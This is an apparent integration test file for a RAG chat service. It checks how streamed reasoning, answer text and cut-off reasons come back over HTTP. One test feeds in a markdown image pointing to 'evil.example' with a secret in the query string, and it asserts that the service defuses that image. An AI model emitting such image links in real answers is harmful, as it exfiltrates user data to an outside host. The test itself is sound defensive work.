"""Reasoning, and answers that are cut off, over HTTP."""

from collections.abc import AsyncGenerator, Sequence
from typing import Any

import httpx

from luma_rag.chat.answerer import NO_OPTIONS, AnswerOptions, HistoryMessage, RetrievedPassage
from luma_rag.llm.protocol import AllReasoning, CutOff, Reasoning, Written
from luma_rag.runtime import Runtime
from tests.answering import answering
from tests.api import Api
from tests.integration.http.test_chats import read_events
from tests.integration.http.test_completions import QUESTION, asking, chunks
from tests.servers import serving


class Thinker:
    """Writes the same to every question."""

    name = "thinker"

    def __init__(self, *pieces: Written) -> None:
        self._pieces = pieces
        self.histories: list[list[HistoryMessage]] = []

    async def answer(
        self,
        question: str,
        passages: Sequence[RetrievedPassage],
        history: Sequence[HistoryMessage],
        options: AnswerOptions = NO_OPTIONS,
    ) -> AsyncGenerator[Written]:
        self.histories.append(list(history))
        for piece in self._pieces:
            yield piece

    async def aclose(self) -> None:
        """No resources to release."""


async def ask(client: httpx.AsyncClient, namespace: int) -> tuple[int, list[tuple[str, Any]]]:
    """The id of a new chat, and the events of an answer in it."""
    chat = (await client.post("/api/chats", json={"namespace_id": namespace})).json()["id"]
    accept = {"accept": "text/event-stream"}
    question = {"content": "Why?"}
    async with client.stream("POST", f"/api/chats/{chat}/messages", json=question, headers=accept) as answer:
        return chat, await read_events(answer)


async def test_reasoning_is_kept_apart_from_the_answer(runtime: Runtime) -> None:
    thinker = Thinker(Reasoning("Hm [1], \x00"), Reasoning("so."), "Because", ".", CutOff("length"))
    async with answering(runtime, thinker) as own, serving(own) as url, Api(url, own) as api:
        alice = await api.user("alice")
        chat, events = await ask(alice, await api.namespace(alice))
        written = [(name, data) for name, data in events if name in ("reasoning", "delta", "llm_message")]
        assert "".join(data["text"] for name, data in written if name == "reasoning") == "Hm [1], so."
        assert "".join(data["text"] for name, data in written if name == "delta") == "Because."
        name, answered = written[-1]
        assert name == "llm_message"
        assert answered["content"] == "Because."
        assert (answered["reasoning"], answered["cut_off"]) == ("Hm [1], so.", "length")
        question, stored = (await alice.get(f"/api/chats/{chat}/messages")).json()["items"]
        assert stored == answered
        assert (question["reasoning"], question["cut_off"]) == (None, None)
        await alice.post(f"/api/chats/{chat}/messages", json={"content": "And then?"})
        assert [message.content for message in thinker.histories[-1]] == ["Why?", "Because."]


async def test_text_that_turns_out_to_be_reasoning_is_taken_back(runtime: Runtime) -> None:
    thinker = Thinker("Hm, ", "so.", AllReasoning(), "Because.")
    async with answering(runtime, thinker) as own, serving(own) as url, Api(url, own) as api:
        alice = await api.user("alice")
        namespace = await api.namespace(alice)
        _, events = await ask(alice, namespace)
        names = [name for name, _ in events]
        assert names.index("delta") < names.index("all_reasoning") < len(names) - 1
        _, answered = events[-1]
        assert (answered["content"], answered["reasoning"]) == ("Because.", "Hm, so.")
        asked = await alice.post("/v1/chat/completions", json=asking(namespace))
        assert asked.json()["choices"][0]["message"]["content"] == "Because."
        received = [
            c["choices"][0] for c in await chunks(alice, asking(namespace, stream=True)) if c != "[DONE]"
        ]
        streamed = "".join(c["delta"].get("content", "") for c in received)
        assert streamed == "Hm, so.\n</think>\n\nBecause."
        # The conversation goes on in the same chat, although the client has seen more than is stored.
        chat = received[-1]["delta"]["luma"]["chat_id"]
        again = await alice.post(
            "/v1/chat/completions", json=asking(namespace, QUESTION, streamed, "And then?")
        )
        assert again.json()["choices"][0]["message"]["luma"]["chat_id"] == chat


async def test_completions_have_reasoning_and_the_reason_of_the_end(runtime: Runtime) -> None:
    image = "![x](https://evil.example/?q=secret)"
    thinker = Thinker(Reasoning(f"Hm. {image}"), "Because.", CutOff("content_filter"))
    shown = "Hm. ! [x](https://evil.example/?q=secret)"
    async with answering(runtime, thinker) as own, serving(own) as url, Api(url, own) as api:
        alice = await api.user("alice")
        namespace = await api.namespace(alice)
        whole = (await alice.post("/v1/chat/completions", json=asking(namespace))).json()["choices"][0]
        assert whole["message"]["reasoning_content"] == shown
        assert whole["message"]["content"] == "Because."
        assert whole["finish_reason"] == "content_filter"
        received = [
            c["choices"][0] for c in await chunks(alice, asking(namespace, stream=True)) if c != "[DONE]"
        ]
        thoughts = [c["delta"].get("reasoning_content", "") for c in received]
        assert "".join(thoughts) == shown
        assert received[-1]["finish_reason"] == "content_filter"
